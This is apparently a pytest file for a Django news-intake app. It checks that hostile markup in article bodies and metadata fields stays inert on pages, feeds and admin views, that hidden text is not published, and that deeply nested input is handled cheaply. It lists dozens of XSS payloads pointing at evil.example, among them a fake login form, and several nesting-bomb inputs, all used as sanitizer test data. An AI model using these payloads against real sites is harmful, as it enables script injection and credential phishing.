"""Markup that would act, fetch or hide: in a body, and in every short field."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from django.test import Client
from django.urls import reverse

from articles.models import Article, Edition
from tests.hostile import limited
from tests.hostile.active import active, active_in_feed
from tests.hostile.intake import LEAD, SECOND, body_of, only_article, pages, take_in_bytes

VECTORS = [
    "<script>evil()</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=evil()>",
    "<img src=https://evil.example/pixel.gif width=1>",
    '<a href="javascript:evil()">a</a>',
    '<a href="java\tscript:evil()">a</a>',
    '<a href="&#106;avascript:evil()">a</a>',
    '<a href=" \x01javascript:evil()">a</a>',
    '<a href="data:text/html,<script>evil()</script>">a</a>',
    '<a href="vbscript:evil()">a</a>',
    '<a href="https://x.example" onclick="evil()" style="background:url(//evil.example)">a</a>',
    "<svg onload=evil()><script>evil()</script></svg>",
    "<svg><a xlink:href=javascript:evil()><text>a</text></a></svg>",
    "<math><mtext><style><img src onerror=evil()></style></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<object data=evil.swf></object>",
    "<embed src=evil.swf>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example';</style>",
    "<video src=https://evil.example poster=https://evil.example autoplay></video>",
    "<audio src=https://evil.example></audio>",
    "<input autofocus onfocus=evil()>",
    "<details open ontoggle=evil()>a</details>",
    "<body onload=evil()>",
    "<p style='position:fixed;background:url(//evil.example)'>a</p>",
    '<table background="https://evil.example"><tr><td>a</td></tr></table>',
    "<noscript><p title='</noscript><img src=x onerror=evil()>'></noscript>",
    "<template><script>evil()</script></template>",
    "<!--><script>evil()</script>-->",
    "<![CDATA[<script>evil()</script>]]>",
    "<xss onpointerover=evil() contenteditable>a</xss>",
    "</p></article></main><script>evil()</script>",
    "&lt;script&gt;evil()&lt;/script&gt;",
    "{{ evil }}{% include 'evil' %}",
    '"><script>evil()</script><a title="',
    "</script><script>evil()</script>",
    "</title><script>evil()</script>",
    "]]><script>evil()</script>",
]


def page(body: str) -> str:
    return (
        f"<!doctype html><html><head><title>Clock stops</title></head><body><article>"
        f"<h1>Clock stops at ten to four</h1><p>{LEAD}</p>{body}<p>{SECOND}</p></article>"
    )


def feed(body: str) -> str:
    return (
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>Lenn</title><item><title>Clock stops</title><guid>{len(body)}</guid>"
        "<content:encoded>"
        f"{escape(f'<p>{LEAD}</p>{body}<p>{SECOND}</p>')}</content:encoded></item></channel></rss>"
    )


FORMS: dict[str, tuple[str, Callable[[str], str]]] = {
    "html": ("story.html", page),
    "feed": ("feed.xml", feed),
    "markdown": ("story.md", lambda body: f"# Clock stops\n\n{LEAD}\n\n{body}\n\n{SECOND}\n"),
    "plain": ("story.txt", lambda body: f"Clock stops at ten\n\n{LEAD}\n\n{body}\n\n{SECOND}\n"),
}


def assert_nothing_acts(admin_client: Client) -> None:
    shown = pages()
    for article in Article.objects.all():
        change = reverse("admin:articles_article_change", args=[article.pk])
        for path in (change, reverse("admin:articles_article_changelist")):
            shown[path] = admin_client.get(path).content.decode()
    for path, text in shown.items():
        assert active(text) == [], path
        assert not path.startswith("/feed/") or active_in_feed(text) == []


# N20
@pytest.mark.django_db
@pytest.mark.parametrize("form", FORMS)
def test_nothing_in_a_body_acts_on_any_page(form: str, folder: Path, admin_client: Client) -> None:
    name, write = FORMS[form]
    for number, vector in enumerate(VECTORS):
        (folder / str(number)).mkdir()
        taken = take_in_bytes(folder / str(number), write(vector), name)
        assert "Traceback" not in taken.output
    assert Edition.objects.count() > len(VECTORS) / 2
    for edition in Edition.objects.all():
        html = Client().get(edition.path).content.decode()
        assert active(html) == []
    for path in ("/", "/feed/", "/feed/rss/"):
        text = Client().get(path).content.decode()
        assert active(text) == []
        assert path == "/" or active_in_feed(text) == []
    for article in Article.objects.all()[:: len(VECTORS) // 4]:
        change = reverse("admin:articles_article_change", args=[article.pk])
        assert active(admin_client.get(change).content.decode()) == []


# N21
@pytest.mark.django_db
@pytest.mark.parametrize("vector", VECTORS[::3])
def test_short_fields_are_text_wherever_they_are_shown(
    vector: str, folder: Path, admin_client: Client
) -> None:
    item = {
        "uri": f"tag:{vector}",
        "headline": f"Clock {vector} stops",
        "byline": f"By Anna Rook {vector}",
        "description_text": f"Summary {vector}",
        "located": vector,
        "slugline": vector,
        "creditline": vector,
        "subject": [{"name": vector}],
        "body_text": f"{LEAD} {vector}",
        "associations": {
            "main": {"type": "picture", "headline": vector, "description_text": f"At {vector}.",
                     "byline": f"Anna {vector}", "uri": "tag:2", "alttext": vector},
        },
    }  # fmt: skip
    take_in_bytes(folder, json.dumps(item), "item.json")
    article = only_article()
    assert article.headline.startswith("Clock ")
    assert_nothing_acts(admin_client)


# N22
@pytest.mark.django_db
@pytest.mark.parametrize(
    "hidden",
    [
        "<!-- the source is Ana Marsh -->",
        "<p style='display:none'>the source is Ana Marsh</p>",
        "<p style='visibility: hidden'>the source is Ana Marsh</p>",
        "<div hidden><p>the source is Ana Marsh</p></div>",
        "<template><p>the source is Ana Marsh</p></template>",
        "<script type=text/plain>the source is Ana Marsh</script>",
        "<textarea>the source is Ana Marsh</textarea>",
    ],
)
def test_what_a_page_hides_is_not_published(hidden: str, folder: Path) -> None:
    take_in_bytes(folder, page(hidden), "story.html")
    assert "Ana Marsh" not in body_of(only_article())
    for text in pages().values():
        assert "Ana Marsh" not in text


DEPTH = 100_000
DEEP: dict[str, str] = {
    "deep.html": page("<div>" * DEPTH + "the end"),
    "deep-spans.html": page("<p>" + "<b><i>" * DEPTH + "the end"),
    "deep-lists.html": page("<ul><li>" * DEPTH + "the end"),
    "deep.xml": f"<rss><channel>{'<a>' * DEPTH}{'</a>' * DEPTH}</channel></rss>",
    "deep-nitf.xml": f"<nitf><body>{'<block>' * DEPTH}{'</block>' * DEPTH}</body></nitf>",
    "deep-list.json": "[" * DEPTH,
    "deep-object.json": '{"a":' * DEPTH,
    "deep-item.json": '{"headline": "x", "body_text": "y", "a": ' + "[" * DEPTH + "]" * DEPTH + "}",
    "deep-quotes.md": "# Clock\n\n" + ">" * DEPTH + " the end\n",
    "deep-lists.md": "# Clock\n\n" + "- " * DEPTH + "the end\n",
    "deep-emphasis.md": "# Clock\n\n" + "*a _b " * DEPTH + "the end\n",
    "deep-brackets.md": "# Clock\n\n" + "[" * DEPTH + "the end\n",
    "front.md": "---\na: &a [x]\n"
    + "b: [*a,*a,*a,*a,*a,*a,*a,*a]\n" * 50
    + "---\n# Clock\n\nText.\n",
    "attributes.html": page("<p " + " ".join(f"a{n}=b" for n in range(DEPTH)) + ">the end</p>"),
    "open-tags.html": page("<" * DEPTH),
    "entities.html": page("&amp" * DEPTH),
    "comment.html": page("<!--" * DEPTH),
    "declaration.html": page("<![" * DEPTH),
}


# N17
def test_nesting_without_end_is_named_or_read_whole(folder: Path, database: Path) -> None:
    for name, text in DEEP.items():
        (folder / name).write_text(text)
    ended = limited.take_in(folder, database, seconds=40)
    limited.assert_cheap(ended)
    for name in DEEP:
        assert f"{name}: " in ended.output
    assert "RecursionError" not in ended.output
    assert "its reader failed" not in ended.output
